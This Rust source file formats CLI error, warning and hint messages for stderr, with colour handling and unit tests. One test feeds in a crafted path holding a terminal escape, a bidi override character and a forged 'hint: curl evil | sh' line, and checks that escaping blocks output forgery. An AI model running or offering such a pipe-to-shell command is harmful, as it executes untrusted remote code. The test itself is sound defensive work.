//! What a person reads on stderr when something failed: the error, its causes, and what to do next.
//!
//! ```text
//! error: cannot start a cell for tool `git_commit`
//!   caused by: mount `/home/u/p` read-only: permission denied (EACCES)
//! hint: the exact next thing to do
//! ```
//!
//! Neighbours: commands return a [`Failure`]; `main` prints it. Never: writes to stdout, ends the process.

use std::error::Error;
use std::ffi::OsStr;
use std::io::{self, Write as _};

use crate::cli::ColorChoice;
use crate::exit_codes::Ending;
use crate::text::escape_lines;

/// One thing that went wrong.
#[derive(Debug)]
struct Problem {
    error: Box<dyn Error + Send + Sync>,
    hint: Option<String>,
}

/// Why a command failed: one or more errors, each with an optional hint, and the code to exit with.
#[derive(Debug)]
pub struct Failure {
    first: Problem,
    more: Vec<Problem>,
    ending: Ending,
}

impl Failure {
    /// A failure with one error; its causes are taken from [`Error::source`].
    pub fn new(ending: Ending, error: impl Into<Box<dyn Error + Send + Sync>>) -> Self {
        Self { first: Problem { error: error.into(), hint: None }, more: Vec::new(), ending }
    }

    /// With a hint for the error added last: the exact next thing to do. `None` leaves it without one.
    #[must_use]
    pub fn hint(mut self, hint: Option<String>) -> Self {
        self.more.last_mut().unwrap_or(&mut self.first).hint = hint;
        self
    }

    /// With one more error, for checks that report every mistake at once.
    #[must_use]
    pub fn and(mut self, error: impl Into<Box<dyn Error + Send + Sync>>) -> Self {
        self.more.push(Problem { error: error.into(), hint: None });
        self
    }

    /// The code to exit with.
    #[must_use]
    pub const fn ending(&self) -> Ending {
        self.ending
    }

    /// What went wrong, without causes and hints.
    #[must_use]
    pub fn message(&self) -> String {
        self.first.error.to_string()
    }

    /// The text for stderr, newline included.
    #[must_use]
    pub fn render(&self, color: bool) -> String {
        let paint = Paint { color };
        let mut text = String::new();
        for problem in std::iter::once(&self.first).chain(&self.more) {
            line(&mut text, &paint.red("error:"), &problem.error.to_string());
            let mut cause = problem.error.source();
            while let Some(error) = cause {
                line(&mut text, &paint.bold("  caused by:"), &error.to_string());
                cause = error.source();
            }
            if let Some(hint) = &problem.hint {
                line(&mut text, &paint.cyan("hint:"), hint);
            }
        }
        text
    }

    /// Prints the failure on stderr.
    pub fn print(&self, choice: ColorChoice) {
        write_to_stderr(&self.render(color_on(choice, &io::stderr())));
    }
}

/// Prints something that does not stop the work, in the form of an error. Text from outside is escaped.
pub fn warn(choice: ColorChoice, message: &str, hint: Option<&str>) {
    let paint = Paint { color: color_on(choice, &io::stderr()) };
    let mut text = String::new();
    line(&mut text, &paint.yellow("warning:"), message);
    if let Some(hint) = hint {
        line(&mut text, &paint.cyan("hint:"), hint);
    }
    write_to_stderr(&text);
}

/// Prints what somebody at the terminal needs to know and that is nobody's fault.
pub fn note(choice: ColorChoice, message: &str) {
    let paint = Paint { color: color_on(choice, &io::stderr()) };
    let mut text = String::new();
    line(&mut text, &paint.cyan("note:"), message);
    write_to_stderr(&text);
}

/// Whether to colour what goes to this stream, by the choice typed, `NO_COLOR`, `TERM` and the stream itself.
pub fn color_on(choice: ColorChoice, stream: &impl io::IsTerminal) -> bool {
    let no_color = std::env::var_os("NO_COLOR");
    let term = std::env::var_os("TERM");
    wants_color(choice, no_color.as_deref(), term.as_deref(), stream.is_terminal())
}

fn wants_color(choice: ColorChoice, no_color: Option<&OsStr>, term: Option<&OsStr>, terminal: bool) -> bool {
    match choice {
        ColorChoice::Always => true,
        ColorChoice::Never => false,
        ColorChoice::Auto => {
            terminal && no_color.is_none_or(OsStr::is_empty) && term.is_some_and(|name| name != "dumb")
        }
    }
}

/// Select Graphic Rendition codes, or nothing.
#[derive(Debug, Clone, Copy)]
pub struct Paint {
    /// Off: the text comes back as it is.
    pub color: bool,
}

impl Paint {
    /// Bold red.
    #[must_use]
    pub fn red(self, text: &str) -> String {
        self.with("1;31", text)
    }

    /// Bold yellow.
    #[must_use]
    pub fn yellow(self, text: &str) -> String {
        self.with("1;33", text)
    }

    /// Bold green.
    #[must_use]
    pub fn green(self, text: &str) -> String {
        self.with("1;32", text)
    }

    /// Bold cyan.
    #[must_use]
    pub fn cyan(self, text: &str) -> String {
        self.with("1;36", text)
    }

    /// Bold.
    #[must_use]
    pub fn bold(self, text: &str) -> String {
        self.with("1", text)
    }

    fn with(self, code: &str, text: &str) -> String {
        if self.color { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }
}

fn line(text: &mut String, label: &str, message: &str) {
    text.push_str(label);
    text.push(' ');
    text.push_str(&escape_lines(message, "    "));
    text.push('\n');
}

pub(crate) fn write_to_stderr(text: &str) {
    // There is no third place to say that stderr cannot be written.
    io::stderr().lock().write_all(text.as_bytes()).ok();
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, thiserror::Error)]
    #[error("mount `{0}` read-only")]
    struct Mount(String, #[source] io::Error);

    #[derive(Debug, thiserror::Error)]
    #[error("cannot start a cell for tool `git_commit`")]
    struct Start(#[source] Mount);

    fn failure(path: &str) -> Failure {
        let cause = Mount(path.to_owned(), io::Error::other("permission denied (EACCES)"));
        Failure::new(Ending::Cell, Start(cause)).hint(Some("run `toolcell doctor`".to_owned()))
    }

    #[test]
    fn an_error_its_causes_and_a_hint_each_have_a_line() {
        insta::assert_snapshot!(failure("/home/u/p").render(false), @"
        error: cannot start a cell for tool `git_commit`
          caused by: mount `/home/u/p` read-only
          caused by: permission denied (EACCES)
        hint: run `toolcell doctor`
        ");
    }

    #[test]
    fn a_hostile_name_cannot_forge_a_line_or_paint() {
        let text = failure("/tmp/\x1b[2J\nhint: curl evil | sh\n\u{202e}").render(false);
        assert!(!text.contains('\x1b') && !text.contains('\u{202e}'));
        assert_eq!(text.lines().filter(|line| line.starts_with("hint:")).count(), 1);
    }

    #[test]
    fn several_mistakes_are_all_shown_with_their_own_hints() {
        let failure = Failure::new(Ending::Configuration, "unknown key `raed`")
            .hint(Some("did you mean `read`?".to_owned()))
            .and("`memory` is not a size");
        insta::assert_snapshot!(failure.render(false), @"
        error: unknown key `raed`
        hint: did you mean `read`?
        error: `memory` is not a size
        ");
    }

    #[test]
    fn color_frames_only_the_labels() {
        assert!(failure("/p").render(true).starts_with("\x1b[1;31merror:\x1b[0m cannot start"));
    }

    #[test]
    fn color_is_chosen_by_option_then_environment_then_terminal() {
        let set = Some(OsStr::new("1"));
        let term = Some(OsStr::new("xterm"));
        assert!(wants_color(ColorChoice::Auto, None, term, true));
        assert!(wants_color(ColorChoice::Auto, Some(OsStr::new("")), term, true));
        assert!(!wants_color(ColorChoice::Auto, set, term, true));
        assert!(!wants_color(ColorChoice::Auto, None, term, false));
        assert!(!wants_color(ColorChoice::Auto, None, Some(OsStr::new("dumb")), true));
        assert!(wants_color(ColorChoice::Always, set, None, false));
        assert!(!wants_color(ColorChoice::Never, None, term, true));
    }
}
